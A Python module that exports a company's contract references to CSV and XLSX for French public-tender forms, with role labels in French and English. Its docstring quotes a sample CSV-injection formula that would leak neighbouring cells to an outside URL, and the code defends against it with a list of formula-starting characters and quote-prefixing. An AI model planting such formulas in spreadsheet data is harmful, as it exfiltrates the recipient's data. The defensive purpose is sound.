"""The references as the forms want them (DC2 / DUME): CSV for French Excel, and XLSX.

One row per reference: description, amount, currency, start, end, client, public or
private, our role. The CSV is UTF-8 with a BOM and `;` separators, which is what French
Excel opens correctly by double-click.

Every text cell is data, never a formula (OWASP, "CSV injection"): a spreadsheet runs a
cell that starts with `=`, `+`, `-`, `@` (or a tab or carriage return, which it strips
first), and a title such as `=HYPERLINK("http://…?leak="&B3)` would send the buyer's
neighbouring cells away. In the XLSX such a cell is a string with Excel's quote prefix
(what typing a leading apostrophe stores: the reader sees the text unchanged); in the CSV
it starts with an apostrophe, which spreadsheets read as "text follows".
"""

from __future__ import annotations

import csv
import io
from collections.abc import Sequence
from dataclasses import dataclass

from refsheets.model import Mission

COLUMNS = (
    ("reference", "Référence"),
    ("description", "Description de la prestation"),
    ("amount", "Montant"),
    ("currency", "Devise"),
    ("basis", "HT/TTC"),
    ("start", "Début"),
    ("end", "Fin"),
    ("client", "Client (destinataire)"),
    ("client_kind", "Public/Privé"),
    ("role", "Rôle"),
    ("partners", "Partenaires"),
)
# The same columns, and the words in the cells, for a tender answered in English.
COLUMNS_EN = (
    ("reference", "Reference"),
    ("description", "Description of the services"),
    ("amount", "Amount"),
    ("currency", "Currency"),
    ("basis", "Excl./incl. VAT"),
    ("start", "Start"),
    ("end", "End"),
    ("client", "Client (recipient)"),
    ("client_kind", "Public/private"),
    ("role", "Role"),
    ("partners", "Partners"),
)
_WORDS = {
    "fr": {
        "public": "Public",
        "private": "Privé",
        "sole": "Titulaire",
        "lead_partner": "Cotraitant",
        "member": "Membre du groupement",
        "HT": "HT",
        "TTC": "TTC",
        "sheet": "Références",
    },
    "en": {
        "public": "Public",
        "private": "Private",
        "sole": "Sole contractor",
        "lead_partner": "Co-contractor",
        "member": "Consortium member",
        "HT": "excl. VAT",
        "TTC": "incl. VAT",
        "sheet": "References",
    },
}


def columns(lang: str = "fr") -> tuple[tuple[str, str], ...]:
    """The columns (key, header) in `lang`."""
    return COLUMNS_EN if lang == "en" else COLUMNS


@dataclass(frozen=True)
class Row:
    """One reference, as the forms list it."""

    reference: str
    description: str
    amount: int | None
    currency: str
    basis: str
    start: str
    end: str
    client: str
    client_kind: str
    role: str
    partners: str


# Our role in the contract as the forms' role column says it, per language.
OUR_ROLE = {
    "fr": {
        "sole": "Titulaire",
        "lead": "Mandataire du groupement",
        "co-contractor": "Cotraitant (membre du groupement)",
        "subcontractor": "Sous-traitant",
    },
    "en": {
        "sole": "Sole contractor",
        "lead": "Lead of the consortium",
        "co-contractor": "Co-contractor (consortium member)",
        "subcontractor": "Subcontractor",
    },
}


def our_role(mission: Mission, lang: str = "fr") -> str:
    """What we were in the contract: the mission's `role`, else as far as the partners'
    roles say (never guessed)."""
    if mission.role is not None:
        return OUR_ROLE[lang][mission.role]
    words = _WORDS[lang]
    roles = {p.role for p in mission.partners}
    if "sole" in roles:
        return OUR_ROLE[lang]["subcontractor"]
    if not mission.partners or roles == {"subcontractor"}:
        return words["sole"]
    if "lead" in roles:
        return words["lead_partner"]
    if "co-contractor" in roles:
        return words["member"]
    return ""  # partners whose role the data does not give: left blank, not guessed


def rows_for(selection: Sequence[tuple[str, Mission]], lang: str = "fr") -> list[Row]:
    """The rows of the selected missions, in the annex's order, with words in `lang`
    (the partners' roles as the cards say them: "cotraitant", "co-contractor")."""
    from refsheets.card import LABELS

    words = _WORDS[lang]
    role_words = LABELS[lang].roles
    rows = []
    for mission_id, mission in selection:
        client = mission.client
        name = client.anonymous_label if mission.disclosure == "anonymous" else client.name
        period = mission.period
        rows.append(
            Row(
                reference=mission_id,
                description=mission.title,
                amount=mission.budget.amount if mission.budget else None,
                currency=mission.budget.currency if mission.budget else "",
                basis=words[mission.budget.basis] if mission.budget else "",
                start=str(period.start) if period and period.start else "",
                end=str(period.end) if period and period.end else "",
                client=name or client.name,
                client_kind={"public": words["public"], "private": words["private"]}.get(
                    client.kind or "", ""
                ),
                role=our_role(mission, lang),
                partners=", ".join(
                    p.name + (f" ({role_words.get(p.role, p.role)})" if p.role else "")
                    for p in mission.partners
                ),
            )
        )
    return rows


# The first characters that make a spreadsheet read a cell as a formula: the ASCII ones,
# their full-width forms (some spreadsheets fold them), and the tab and CR it strips.
FORMULA_STARTS = frozenset("=+-@\t\r\n\uff1d\uff0b\uff0d\uff20")


def is_formula_like(text: str) -> bool:
    """Whether a spreadsheet would take `text` for a formula (or something to strip first)."""
    return bool(text) and text[0] in FORMULA_STARTS


def neutralise(text: str) -> str:
    """`text` as a CSV cell that no spreadsheet evaluates: an apostrophe before it when
    it starts like a formula (OWASP's advice); honest text is left as it is."""
    return "'" + text if is_formula_like(text) else text


def _cells(row: Row, lang: str) -> list[str | int | None]:
    return [getattr(row, key) for key, _ in columns(lang)]


def to_csv(rows: Sequence[Row], lang: str = "fr") -> bytes:
    """UTF-8 with BOM, `;`-separated, CRLF line ends: French Excel opens it as is."""
    buffer = io.StringIO()
    writer = csv.writer(buffer, delimiter=";", lineterminator="\r\n")
    writer.writerow([label for _, label in columns(lang)])
    for row in rows:
        writer.writerow(
            [
                "" if value is None else neutralise(value) if isinstance(value, str) else value
                for value in _cells(row, lang)
            ]
        )
    return ("\ufeff" + buffer.getvalue()).encode("utf-8")


def to_xlsx(rows: Sequence[Row], *, title: str, lang: str = "fr") -> bytes:
    """A one-sheet workbook: amounts as numbers formatted in euros, a frozen header."""
    from openpyxl import Workbook
    from openpyxl.styles import Alignment, Font

    workbook = Workbook()
    sheet = workbook.active
    sheet.title = _WORDS[lang]["sheet"]
    sheet.append([label for _, label in columns(lang)])
    for cell in sheet[1]:
        cell.font = Font(bold=True)
        cell.alignment = Alignment(wrap_text=True, vertical="top")
    for row in rows:
        sheet.append(_cells(row, lang))
        for cell in sheet[sheet.max_row]:
            if isinstance(cell.value, str):
                # openpyxl turns a string starting with `=` into a formula: every text
                # cell is stored as a string, those that look like formulas quote-prefixed.
                cell.data_type = "s"
                if is_formula_like(cell.value):
                    cell.quotePrefix = True
    amount_column = [key for key, _ in columns(lang)].index("amount") + 1
    for (cell,) in sheet.iter_rows(min_row=2, min_col=amount_column, max_col=amount_column):
        cell.number_format = '#,##0 "€"'
    widths = {"reference": 28, "description": 60, "client": 30, "partners": 30}
    for index, (key, _) in enumerate(columns(lang), start=1):
        letter = sheet.cell(row=1, column=index).column_letter
        sheet.column_dimensions[letter].width = widths.get(key, 14)
    sheet.freeze_panes = "A2"
    workbook.properties.title = title
    workbook.properties.creator = "refsheets"
    buffer = io.BytesIO()
    workbook.save(buffer)
    return _without_timestamps(buffer.getvalue())


def _without_timestamps(xlsx: bytes) -> bytes:
    """Fixed dates in the workbook's properties and its zip entries: same rows, same bytes.

    openpyxl sets `modified` to the current time inside `save()`, whatever was asked.
    """
    import re
    import zipfile

    from refsheets.render.docx_package import write_zip

    source = zipfile.ZipFile(io.BytesIO(xlsx))
    entries = {name: source.read(name) for name in source.namelist()}
    core = entries["docProps/core.xml"].decode("utf-8")
    core = re.sub(
        r"(<dcterms:(?:created|modified)[^>]*>)[^<]*(</dcterms:)",
        r"\g<1>2000-01-01T00:00:00Z\g<2>",
        core,
    )
    entries["docProps/core.xml"] = core.encode("utf-8")
    return write_zip(entries)
